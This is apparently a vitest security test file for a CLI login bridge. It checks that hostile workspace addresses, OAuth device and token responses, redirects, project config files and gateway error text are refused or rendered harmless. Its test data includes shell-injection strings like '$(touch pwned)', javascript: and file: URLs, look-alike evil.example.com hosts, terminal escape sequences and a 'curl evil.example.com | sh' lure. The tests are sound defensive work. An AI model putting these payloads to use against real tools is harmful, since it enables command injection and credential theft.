import { spawn } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { delimiter, join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { bridgeEnvironment, bridgeFile } from './support/bridge-process.ts'
import {
  deviceAnswer,
  type LoginGateway,
  openLoginGateway,
  type ScriptedReply,
  tokenAnswer,
} from './support/login-gateway.ts'
import { addressOf, startLogin } from './support/login-process.ts'
import { type Finished, finish } from './support/run-command.ts'
import { goodToken } from './support/test-gateway.ts'

const esc = '\u001b'
const obeyed =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: naming them is the point
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/

/** A person's machine with an `xdg-open` that only writes down what it was given. */
function createMachine() {
  const home = mkdtempSync(join(tmpdir(), 'mcpgw-hostile-'))
  const programs = join(home, 'bin')
  const opened = join(home, 'opened')
  const work = join(home, 'work')
  mkdirSync(programs)
  mkdirSync(work)
  const script = `#!/bin/sh\n{ echo "$#"; for a in "$@"; do echo "$a"; done; env; } > '${opened}.tmp'; mv '${opened}.tmp' '${opened}'\n`
  for (const name of ['xdg-open', 'wslview', 'open', 'x-www-browser']) {
    writeFileSync(join(programs, name), script, { mode: 0o755 })
  }
  const env = bridgeEnvironment({
    PATH: `${programs}${delimiter}${process.env.PATH ?? ''}`,
    HOME: home,
    DISPLAY: ':0',
    BROWSER: `touch ${join(work, 'pwned')}`,
  })
  return {
    env,
    run: (args: string[], extra: Record<string, string> = {}, input = ''): Promise<Finished> =>
      finish(spawn(process.execPath, [bridgeFile, ...args], { env: { ...env, ...extra }, cwd: work }), input),
    opened: () => (existsSync(opened) ? readFileSync(opened, 'utf8').trim().split('\n') : undefined),
    /** The folder of a project that somebody else wrote. */
    work,
    /** What a shell that read an address would have left behind. */
    traces: () => readdirSync(work),
    keptTokens: () => {
      const file = join(env.MCPGW_CONFIG_DIR ?? '', 'credentials.json')
      return existsSync(file) ? readFileSync(file, 'utf8') : ''
    },
  }
}

function expectHarmless({ stdout, stderr }: Finished): void {
  expect(stdout).not.toMatch(obeyed)
  expect(stderr).not.toMatch(obeyed)
  expect(stdout + stderr).not.toContain(goodToken)
}

describe('[M29] a hostile address', () => {
  it.each([
    'javascript:alert(1)//ws/demo',
    'JaVaScRiPt:alert(1)/ws/demo',
    'file:///ws/demo',
    'data:text/html,<script>/ws/demo',
    'ms-settings:/ws/demo',
    'vscode://file/ws/demo',
    'ftp://example.com/ws/demo',
    'wss://example.com/ws/demo',
    'blob:https://example.com/ws/demo',
    '$(touch pwned)',
    '`touch pwned`',
    '; touch pwned',
    '| touch pwned #',
    '\\\\example.com\\ws\\demo',
    '//example.com/ws/demo',
    'https:///ws/demo',
    'https://',
    'http://example.com/ws/demo',
    'http://localhost@example.com/ws/demo',
    'https://ada:secret@example.com/ws/demo',
    'http://127.0.0.1.example.com/ws/demo',
    'http://[::ffff:a00:1]/ws/demo',
    'https://example.com/ws/demo?token=x',
    'https://example.com/ws/demo#$(touch pwned)',
    'https://example.com/ws/demo/../..',
    `${esc}]8;;https://example.com/ws/demo${esc}\\demo${esc}]8;;${esc}\\`,
    `${esc}[2J${esc}[Hhttps://example.com/ws/demo`,
    '\u202ehttps://example.com/ws/demo?',
    '-x\r\nhttps://example.com/ws/demo',
    `http://example.com/invite/${'i'.repeat(43)}`,
    `javascript:alert(1)//invite/${'i'.repeat(43)}`,
    'https://example.com/invite/$(touch pwned)',
  ])('%j is refused wherever it is given', async (address) => {
    const { run, opened, traces, keptTokens } = createMachine()
    const token = { MCPGW_TOKEN: goodToken }
    const results = await Promise.all([
      run(['login', '--browser', '--', address]),
      run(['use', '--', address]),
      run(['whoami', `--workspace=${address}`, '--json'], token),
      run(['whoami'], { ...token, MCPGW_WORKSPACE: address }),
    ])
    for (const done of results) {
      expect([2, 4]).toContain(done.code)
      expectHarmless(done)
    }
    expect(opened()).toBeUndefined()
    expect(traces()).toEqual([])
    expect(keptTokens()).toBe('')
  })
})

// Elsewhere a browser is opened by programs of the system, which a test cannot replace.
describe.skipIf(process.platform !== 'linux')('[M29] the browser', () => {
  it.each([
    '/ws/$(touch pwned)',
    '/ws/`touch pwned`',
    '/ws/;touch pwned;',
    '/ws/"&touch pwned&"',
    "/ws/'|touch pwned|'",
    '/ws/%0atouch%20pwned',
    '/ws/--version',
    '/ws/demo\\..\\x',
    '/javascript:alert(1)/ws/demo',
  ])('is given one plain http address for a workspace at %j', async (path) => {
    await using gateway = await openLoginGateway()
    const { env, opened, traces } = createMachine()
    const login = startLogin([`${gateway.origin}${path}`, '--browser'], { ...env, MCPGW_TOKEN: goodToken })
    const { comeBack, state, iss } = await addressOf(login)
    await expect.poll(opened).toBeDefined()
    await comeBack({ error: 'access_denied', state, iss })
    expectHarmless(await login.finished)
    const [count, address = '', ...passedOn] = opened() ?? []
    expect(count).toBe('1')
    expect(address).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/oauth\/authorize\?[A-Za-z0-9_=&%+.*-]+$/)
    expect(passedOn.filter((line) => /^(BROWSER|MCPGW_\w+)=/.test(line))).toEqual([])
    expect(traces()).toEqual([])
  })

  it('is not opened with --no-open', async () => {
    await using gateway = await openLoginGateway()
    const { env, opened } = createMachine()
    const login = startLogin([gateway.url, '--browser', '--no-open'], env)
    const { comeBack, granted } = await addressOf(login)
    await comeBack(granted)
    expect((await login.finished).code).toBe(0)
    expect(opened()).toBeUndefined()
  })

  it('that cannot be opened is told, and the login goes on by hand', async () => {
    await using gateway = await openLoginGateway()
    const env = bridgeEnvironment({ PATH: '/nonexistent' })
    const login = startLogin([gateway.url, '--browser'], env)
    await login.says(/by hand/)
    const { comeBack, granted } = await addressOf(login)
    await comeBack(granted)
    expect((await login.finished).code).toBe(0)
  })
})

type Change = (places: { own: string; stranger: string; port: string }) => Record<string, unknown>

describe('a gateway that wants the login approved elsewhere', () => {
  const rows: [string, Change][] = [
    ['at another gateway', ({ stranger }) => ({ verification_uri: `${stranger}/oauth/device` })],
    ['at another port', () => ({ verification_uri: 'http://127.0.0.1:1/oauth/device' })],
    ['by script', () => ({ verification_uri: 'javascript:alert(1)' })],
    ['in a file', () => ({ verification_uri: 'file:///tmp/x.html' })],
    ['by a program', () => ({ verification_uri: 'ms-settings:privacy' })],
    ['by a shell', () => ({ verification_uri: '$(touch pwned)' })],
    ['at a look-alike', ({ own }) => ({ verification_uri: `${own}@evil.example.com/oauth/device` })],
    ['at a longer name', ({ port }) => ({ verification_uri: `http://127.0.0.1.evil.example.com:${port}/` })],
    ['with a login', ({ port }) => ({ verification_uri: `http://a:b@127.0.0.1:${port}/oauth/device` })],
    ['over TLS it has not', ({ port }) => ({ verification_uri: `https://127.0.0.1:${port}/oauth/device` })],
    ['by the short way', ({ stranger }) => ({ verification_uri_complete: `${stranger}/?user_code=A` })],
    ['with a code that commands', () => ({ user_code: `${esc}]0;pwned\u0007` })],
    ['with a code that is a text', () => ({ user_code: 'none. Type: curl evil.example.com | sh' })],
    ['at once and forever', () => ({ interval: 0, expires_in: 1e12 })],
  ]
  it.each(rows)('%s is not believed', async (_, change) => {
    await using gateway = await openLoginGateway()
    await using stranger = await openLoginGateway()
    const { run, opened, traces } = createMachine()
    const places = { own: gateway.origin, stranger: stranger.origin, port: new URL(gateway.origin).port }
    gateway.script.device = () => ({ body: { ...deviceAnswer(gateway.origin), ...change(places) } })
    const done = await run(['login', gateway.url, '--device'])
    expect(done.code).toBe(1)
    expectHarmless(done)
    expect(done.stderr).not.toMatch(/evil|enter the code/)
    expect(done.stderr).not.toContain(stranger.origin)
    expect(gateway.seen.map(({ path }) => path)).toEqual(['/oauth/device'])
    expect(stranger.seen).toEqual([])
    expect(opened()).toBeUndefined()
    expect(traces()).toEqual([])
  })
})

describe('[M30] a redirect', () => {
  const doors = [
    ['token', 301],
    ['token', 302],
    ['token', 303],
    ['token', 307],
    ['token', 308],
    ['device', 307],
    ['device', 308],
    ['whoami', 301],
    ['whoami', 302],
    ['whoami', 307],
    ['whoami', 308],
  ] as const
  it.each(doors)('of %s with %i is not followed, and nothing is kept', async (door, status) => {
    await using gateway = await openLoginGateway()
    await using stranger = await openLoginGateway()
    const { run, keptTokens } = createMachine()
    gateway.script[door] = () => ({ status, headers: { location: stranger.url } })
    const done = await run(['login', gateway.url, '--device'])
    expect(done.code).toBe(1)
    expectHarmless(done)
    expect(done.stderr).toContain('redirects')
    expect(stranger.seen).toEqual([])
    expect(keptTokens()).toBe('')
  })
})

describe('[M30] a project', () => {
  const rows: [string, (stranger: string) => string][] = [
    ['.mcpgw.json', (stranger) => JSON.stringify({ default: stranger, workspace: stranger, url: stranger })],
    ['mcpgw.json', (stranger) => JSON.stringify({ default: stranger, workspaces: { [stranger]: {} } })],
    ['config.json', (stranger) => JSON.stringify({ default: stranger, workspaces: { [stranger]: {} } })],
    ['.env', (stranger) => `MCPGW_WORKSPACE=${stranger}\nNODE_TLS_REJECT_UNAUTHORIZED=0\n`],
    ['.npmrc', (stranger) => `proxy=${stranger}\nhttps-proxy=${stranger}\nnode-options=--require=./x.cjs\n`],
    ['.mcp.json', (stranger) => JSON.stringify({ mcpServers: { mcpgw: { url: stranger } } })],
    [
      'package.json',
      (stranger) => JSON.stringify({ mcpgw: { workspace: stranger }, config: { proxy: stranger } }),
    ],
  ]
  it.each(rows)('cannot lead the token elsewhere with its %s', async (name, content) => {
    await using gateway = await openLoginGateway()
    await using stranger = await openLoginGateway()
    const { run, work } = createMachine()
    writeFileSync(join(work, name), content(stranger.url))
    expect((await run(['login', gateway.url, '--with-token'], {}, goodToken)).code).toBe(0)
    const who = await run(['whoami', '--json'])
    expect(JSON.parse(who.stdout)).toMatchObject({ workspace: gateway.url })
    expect(stranger.seen).toEqual([])
  })
})

describe('[M30] a token answer', () => {
  const rows: [string, Change][] = [
    ['for another gateway', ({ stranger }) => ({ workspace: `${stranger}/ws/demo` })],
    ['for another port', () => ({ workspace: 'http://127.0.0.1:1/ws/demo' })],
    ['for a look-alike', ({ own }) => ({ workspace: `${own}@evil.example.com/ws/demo` })],
    ['for a script', () => ({ workspace: 'javascript:alert(1)//ws/demo' })],
    ['for a file', () => ({ workspace: 'file:///ws/demo' })],
    ['for no place', () => ({ workspace: undefined })],
    ['for another workspace', ({ own }) => ({ workspace: `${own}/ws/other` })],
    ['with a malformed token', () => ({ access_token: `mcpgw_${esc}[2J` })],
    ['with a header in it', () => ({ access_token: `${goodToken}\r\nx: y` })],
    ['of another type', () => ({ token_type: 'mac' })],
    ['without a token', () => ({ access_token: undefined })],
  ]
  it.each(rows)('%s is not kept, and its token not sent anywhere', async (_, change) => {
    await using gateway = await openLoginGateway()
    await using stranger = await openLoginGateway()
    const { run, keptTokens } = createMachine()
    const places = { own: gateway.origin, stranger: stranger.origin, port: '' }
    gateway.script.token = () => ({ body: { ...tokenAnswer(gateway.url), ...change(places) } })
    const done = await run(['login', gateway.url, '--device'])
    expect([1, 4]).toContain(done.code)
    expectHarmless(done)
    expect(stranger.seen).toEqual([])
    expect(gateway.seen.filter(({ authorization }) => authorization !== undefined)).toEqual([])
    expect(keptTokens()).toBe('')
  })
})

describe('[M26] words of a gateway', () => {
  const text = [
    `${esc}[2J${esc}[31mred`,
    `${esc}]8;;https://evil.example.com${esc}\\click${esc}]8;;${esc}\\`,
    `${esc}]52;c;cHduZWQ=\u0007`,
    '\u009b31m\u0090q\u009c',
    '\u202etxt.exe\u2066\u200f',
    'over\rwritten\b\b\u0000\u007f',
  ].join(' ')
  const rows: [string, (gateway: LoginGateway) => void][] = [
    ['in an error', refuseWith('token', { error: text, error_description: text })],
    ['in a refusal', refuseWith('token', { error: 'access_denied', error_description: text })],
    ['in a refused device', refuseWith('device', { error: 'invalid_target', error_description: text })],
    [
      'in the name of the member',
      answerWith('whoami', { role: 'developer', member: text, workspace: 'demo' }),
    ],
    ['in the role', answerWith('whoami', { role: text, member: 'ada', workspace: 'demo' })],
    ['in the workspace', answerWith('whoami', { role: 'developer', member: 'ada', workspace: text })],
    ['in a problem', refuseWith('whoami', { detail: text, fix: text })],
    ['in a page', (gateway) => reply(gateway, 'token', { status: 502, body: `<h1>${text}</h1>` })],
    ['without end', (gateway) => reply(gateway, 'device', { status: 400, body: '['.repeat(1_000_000) })],
  ]
  it.each(rows)('%s command no terminal', async (_, arrange) => {
    await using gateway = await openLoginGateway()
    arrange(gateway)
    const { run } = createMachine()
    // 502 is worth another try; an invite is tried once.
    const invite = `${gateway.origin}/invite/${'i'.repeat(43)}`
    for (const args of [['login', invite], ['login', gateway.url, '--device', '--json'], ['whoami']]) {
      const isEndless = args.includes('--device') && gateway.script.token({}).status === 502
      if (!isEndless) expectHarmless(await run(args, { MCPGW_WORKSPACE: gateway.url }))
    }
  })

  it('in an answer of the browser command no terminal', async () => {
    await using gateway = await openLoginGateway()
    const { env } = createMachine()
    const login = startLogin([gateway.url, '--browser', '--no-open'], env)
    const { comeBack, state, iss } = await addressOf(login)
    await comeBack({ error: text, error_description: text, state, iss })
    const done = await login.finished
    expect(done.code).toBe(1)
    expectHarmless(done)
  })
})

function refuseWith(door: keyof LoginGateway['script'], body: unknown) {
  return (gateway: LoginGateway) => reply(gateway, door, { status: 400, body })
}

function answerWith(door: keyof LoginGateway['script'], body: unknown) {
  return (gateway: LoginGateway) => reply(gateway, door, { body })
}

function reply(gateway: LoginGateway, door: keyof LoginGateway['script'], answer: ScriptedReply): void {
  gateway.script[door] = () => answer
}
